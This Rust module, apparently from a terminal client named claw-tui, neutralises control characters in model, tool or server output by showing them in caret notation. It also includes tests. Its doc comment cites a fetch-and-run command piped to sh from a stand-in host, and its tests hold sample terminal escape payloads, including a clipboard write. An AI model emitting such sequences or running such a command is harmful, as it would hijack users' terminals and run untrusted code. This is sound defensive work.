//! Text from the model, tools or servers made harmless for a terminal.
//!
//! A terminal obeys the control characters it is sent: an escape sequence in a model's
//! answer can set the clipboard (OSC 52: `curl evil | sh` waiting to be pasted), change
//! the window title, rewrite what is on screen or answer back as if typed. Everything
//! claw-tui prints outside its own client goes through [`visible`]: every control
//! character but newline and tab is shown as text instead of being sent as a control.
//!
//! - C0 (U+0000–U+001F) and DEL are shown in caret notation, as `cat -v` and `less`
//!   show them: ESC is `^[`, CR is `^M`, DEL is `^?`.
//! - C1 (U+0080–U+009F) is shown as its seven-bit equivalent (ESC and a character):
//!   CSI (U+009B) is `^[[`, OSC (U+009D) is `^[]`.
//!
//! Output that is data rather than a message (the `-p` answer, `export`) is made visible
//! only when it goes to a terminal ([`for_stdout`]); written to a pipe or a file it stays
//! byte for byte. Diagnostics on stderr are always made visible ([`for_stderr`]).

use std::borrow::Cow;
use std::io::IsTerminal;
use std::sync::OnceLock;

/// Whether `c` is sent to a terminal as a control: C0 but newline and tab, DEL, C1.
pub fn is_hidden_control(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || c == '\u{7f}'
}

/// `text` with every control character but newline and tab shown as text (see the
/// module's documentation); borrowed when there is none.
pub fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        push_visible(&mut out, c);
    }
    Cow::Owned(out)
}

/// Appends `c` to `out` as it is shown: itself, or the text that stands for a control.
fn push_visible(out: &mut String, c: char) {
    let code = u32::from(c);
    match code {
        0x7f => out.push_str("^?"),
        0x00..=0x1f if c != '\n' && c != '\t' => {
            out.push('^');
            out.push(char::from(b'@' + code as u8));
        }
        0x80..=0x9f => {
            out.push_str("^[");
            out.push(char::from(b'@' + (code - 0x80) as u8));
        }
        _ => out.push(c),
    }
}

/// `text` for stdout: made visible when stdout is a terminal, unchanged otherwise (a
/// pipe or a file gets the bytes as they are).
pub fn for_stdout(text: &str) -> Cow<'_, str> {
    static TERMINAL: OnceLock<bool> = OnceLock::new();
    if *TERMINAL.get_or_init(|| std::io::stdout().is_terminal()) {
        visible(text)
    } else {
        Cow::Borrowed(text)
    }
}

/// `text` for stderr, where claw-tui writes messages, never data: always made visible.
pub fn for_stderr(text: &str) -> Cow<'_, str> {
    visible(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_are_shown_and_the_rest_is_kept() {
        assert!(matches!(visible("plain\ttext\nwith é ✓"), Cow::Borrowed(_)));
        assert_eq!(
            visible("a\u{1b}]52;c;Y3VybA==\u{7}b"),
            "a^[]52;c;Y3VybA==^Gb"
        );
        assert_eq!(visible("\u{1b}]0;title\u{1b}\\"), "^[]0;title^[\\");
        assert_eq!(visible("cr\r\nnul\0del\u{7f}"), "cr^M\nnul^@del^?");
        assert_eq!(visible("\u{9b}31m\u{9d}0;t\u{9c}"), "^[[31m^[]0;t^[\\");
        assert_eq!(visible("\u{80}\u{9f}"), "^[@^[_");
        assert!(!visible("\u{1b}[2J").contains('\u{1b}'));
    }

    #[test]
    fn stderr_is_always_made_visible() {
        assert_eq!(for_stderr("x\u{1b}[2Jy"), "x^[[2Jy");
    }
}
